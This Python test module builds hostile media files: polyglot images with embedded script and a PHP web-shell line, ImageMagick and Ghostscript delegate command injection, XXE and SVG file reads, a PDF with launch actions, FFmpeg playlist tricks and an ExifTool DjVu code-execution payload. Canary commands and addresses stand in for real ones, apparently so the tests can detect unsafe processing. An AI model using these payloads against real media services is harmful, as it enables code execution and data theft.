"""Files that are not what they are called, or two things at once, or a program for whoever opens them."""

import struct
import zlib
from typing import Final

from tests.canary import Canary
from tests.test_media.bombs import archive
from tests.test_media.samples import SVG, sample

SCRIPT: Final = b"<script>window.ran=1</script>"
PAGE: Final = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"


def polyglots() -> dict[str, tuple[bytes, str]]:
    """Under their names: what is a sound picture, and something else as well; with the format that it truly is."""
    jpeg, png, gif, bmp = (sample(name) for name in ("jpg", "png", "gif", "bmp"))
    return {
        "gif and javascript.gif": (gif[:6] + b"/*" + gif[8:] + b"*/=1;window.ran=1;//", "gif"),
        "jpeg and zip.jpg": (jpeg + archive(1), "jpg"),
        "jpeg and page.jpg": (_with_comment(jpeg, PAGE), "jpg"),
        "jpeg and pdf.jpg": (_with_comment(jpeg, sample("pdf")[:60_000]), "jpg"),
        "jpeg and php.jpg": (_with_comment(jpeg, b"<?php system($_GET['c']); __halt_compiler(); ?>"), "jpg"),
        "jpeg and shell.jpg": (_with_comment(jpeg, b"\n#!/bin/sh\ntouch ran\n"), "jpg"),
        "png and page.png": (png[:33] + _chunk(b"tEXt", b"Comment\0" + PAGE) + png[33:], "png"),
        "png and what follows.png": (png + PAGE + archive(1), "png"),
        "pdf and jpeg.pdf": (sample("pdf") + jpeg, "pdf"),
        "pdf and zip.pdf": (sample("pdf") + archive(1), "pdf"),
        "bmp and page.bmp": (bmp + PAGE, "bmp"),
        "mp4 and page.mp4": (sample("mp4") + struct.pack(">I", len(PAGE) + 8) + b"free" + PAGE, "mp4"),
        "webp and page.webp": (_riff_with(sample("webp"), PAGE), "webp"),
        "tiff and page.tif": (sample("tiff") + PAGE, "tiff"),
        "svg and page.svg": (SVG.replace(b"<circle", b'<script href="x"/>' + SCRIPT + b"<circle"), "svg"),
    }


def wrongly_named() -> dict[str, tuple[bytes, str]]:
    """Sound files under the name of another format, with the format that they truly are."""
    truths = {
        "jpg": "png webp heic mp4 tif pdf svg nef jxl",
        "png": "jpg gif mov",
        "gif": "jpg",
        "webp": "avi jpg",
        "heic": "jpg",
        "avif": "heic",
        "jxl": "jpg",
        "jp2": "tif",
        "psd": "jpg",
        "tiff": "jpg",
        "bmp": "ico.jpg",
        "mp4": "jpg mkv",
        "mkv": "mp4",
        "avi": "webp",
        "svg": "png jpg",
        "pdf": "jpg svg",
    }
    return {
        f"truly {truth} but {ending}.{ending}": (sample(truth) + f"<!--{ending}-->".encode(), truth)
        for truth, endings in truths.items()
        for ending in endings.split()
    }


def no_pictures(bird: Canary) -> dict[str, bytes]:
    """Pages, programs, archives and texts under the names of pictures and films."""
    contents = {
        "page": PAGE,
        "upper case page": PAGE.upper(),
        "page after blanks": b" " * 600 + PAGE,
        "page in utf-16": PAGE.decode().encode("utf-16"),
        "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
        "stylesheet": b'<?xml version="1.0"?><?xml-stylesheet href="%s"?><x/>' % bird.address.encode(),
        "javascript": b"window.ran=1",
        "shell": f"#!/bin/sh\n{bird.command}\n".encode(),
        "php": b"<?php system($_GET['c']); ?>",
        "elf": b"\x7fELF\2\1\1" + bytes(200),
        "windows": b"MZ\x90\0" + bytes(200),
        "archive": archive(2),
        "rar": b"Rar!\x1a\7\1\0" + bytes(90),
        "shortcut": f"[InternetShortcut]\nURL={bird.address}\n".encode(),
        "mail": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE,
    }
    endings = ("jpg", "png", "gif", "heic", "mp4", "svg", "pdf", "cr2", "webp")
    return {
        f"{name} as {ending}.{ending}": content + b"\n" + ending.encode()
        for number, (name, content) in enumerate(contents.items())
        for ending in (endings[number % len(endings)], "jpg", "svg")
    }


def delegates(bird: Canary) -> dict[str, bytes]:
    """What image programs of old hand on to others, to read, to fetch or to run something."""
    address, file, command = bird.address, bird.file, bird.command
    texts = {
        "mvg": f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 '{address}'\n"
        f"image over 0,0 0,0 'text:{bird.text}'\nfill 'url(https://x.invalid/\"|{command}\")'\npop graphic-context\n",
        "msl": f'<?xml version="1.0"?><image><read filename="{file}"/><read filename="{address}"/>'
        f'<write filename="{bird.ran}"/></image>',
        "ps": f"%!PS\n(%pipe%{command}) (r) file\n({bird.text}) (r) file 99 string readstring\nshowpage\n",
        "eps": f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nmark /OutputFile (%pipe%{command}) currentdevice\n"
        f"putdeviceprops\n({file}) run\n",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
        f'<image xlink:href="{file}" width="9" height="9"/><image href="{file.as_uri()}" width="9" height="9"/>'
        f'<image href="{address}" width="9" height="9"/><image href="msl:{file}" width="9" height="9"/>'
        f'<use href="{address}#a"/><style>@import url("{address}"); rect {{ fill: url("{file.as_uri()}#a") }}</style>'
        f'<foreignObject><iframe src="{address}"/></foreignObject><script href="{address}"/>'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{bird.text.as_uri()}" parse="text"/></svg>',
        "entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{bird.text.as_uri()}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&x;</text></svg>',
        "dtd": f'<!DOCTYPE svg SYSTEM "{address}"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>',
        "pdf": _pdf_that_acts(bird),
        "url": f"{address}\n",
        "caption": f"caption:@{bird.text}\n",
        "vid": f"vid:{file}\n",
    }
    files = {name: text.encode() for name, text in texts.items()} | {"djvu": _djvu(command)}
    endings = {"mvg": "mvg jpg", "msl": "msl svg", "ps": "ps jpg", "eps": "eps png", "svg": "svg jpg", "entity": "svg",
               "dtd": "svg", "pdf": "pdf jpg", "djvu": "djvu jpg"}  # fmt: skip
    return {
        f"delegate {name} as {ending}.{ending}": content
        + (b"\n%" + ending.encode() if name in {"ps", "eps", "pdf"} else b"")
        for name, content in files.items()
        for ending in endings.get(name, "jpg").split()
    }


def playlists(bird: Canary) -> dict[str, bytes]:
    """What makes FFmpeg open other files and addresses, under the names of films and pictures."""
    address, file = bird.address, bird.file
    texts = {
        "hls": f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{address}\n#EXTINF:9,\n{file.as_uri()}\n",
        "hls concat": f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nconcat:{file}|{address}\n#EXT-X-ENDLIST\n",
        "hls subfile": f"#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,99,,:{file}\n#EXT-X-ENDLIST\n",
        "concat": f"ffconcat version 1.0\nfile '{file}'\nfile '{address}'\n",
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {bird.port} RTP/AVP 96\n",
        "dash": f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>{address}</BaseURL></MPD>',
        "asx": f"[Reference]\nRef1={address}\nRef2={file}\n",
        "smil": f'<smil><body><video src="{address}"/></body></smil>',
        "rtsp": f"rtsptext\n{address}\n",
        "avisynth": f'DirectShowSource("{file}")\n',
        "subtitles": f"<SAMI><BODY><SYNC Start=0><IMG src='{address}'></BODY></SAMI>",
        "tee": f"[f=mpegts]{bird.ran}|{address}\n",
    }
    endings = ("mp4", "avi", "mkv", "mov", "mts", "jpg", "mpg", "wmv", "ogv")
    return {
        f"list {name} as {ending}.{ending}": text.encode()
        for number, (name, text) in enumerate(texts.items())
        for ending in dict.fromkeys((endings[number % len(endings)], "mp4", "mts"))
    }


def _with_comment(jpeg: bytes, text: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + jpeg[2:]


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _riff_with(content: bytes, text: bytes) -> bytes:
    body = content[8:] + b"JUNK" + struct.pack("<I", len(text)) + text + bytes(len(text) % 2)
    return content[:4] + struct.pack("<I", len(body)) + body


def _pdf_that_acts(bird: Canary) -> str:
    """A page that starts a program, opens an address and a file, sends a form and holds a script and a file."""
    actions = (
        f"<</S/Launch/F({bird.ran})/Unix<</F(/bin/sh)/P(-c '{bird.command}')>>>>",
        f"<</S/URI/URI({bird.address})>>",
        f"<</S/SubmitForm/F({bird.address})>>",
        f"<</S/GoToR/F({bird.text})/D[0/Fit]>>",
        f"<</S/JavaScript/JS(app.launchURL\\('{bird.address}'\\);)>>",
    )
    objects = (
        "<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 5 0 R>>/Contents 4 0 R"
        "/Resources<</XObject<</I 10 0 R>>>>>>",
        "<</Length 5>>stream\n/I Do\nendstream ",
        *actions,
        f"<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceRGB/BitsPerComponent 8"
        f"/F({bird.file})/FFilter/DCTDecode/Length 0>>stream\n\nendstream ",
    )
    body = "".join(f"{number} 0 obj{content}endobj\n" for number, content in enumerate(objects, 1))
    return f"%PDF-1.4\n{body}trailer<</Root 1 0 R>>\n%%EOF"


def _djvu(command: str) -> bytes:
    """An annotation whose text an old ExifTool ran as Perl."""
    note = f'(metadata (Author "\\\n" . qx{{{command}}} . "x"))'.encode()
    info = b"INFO\0\0\0\x0a\0\x09\0\x09\x18\0\x2c\1\x16\1"
    body = b"DJVU" + info + b"ANTa" + struct.pack(">I", len(note)) + note + bytes(len(note) % 2)
    return b"AT&TFORM" + struct.pack(">I", len(body)) + body
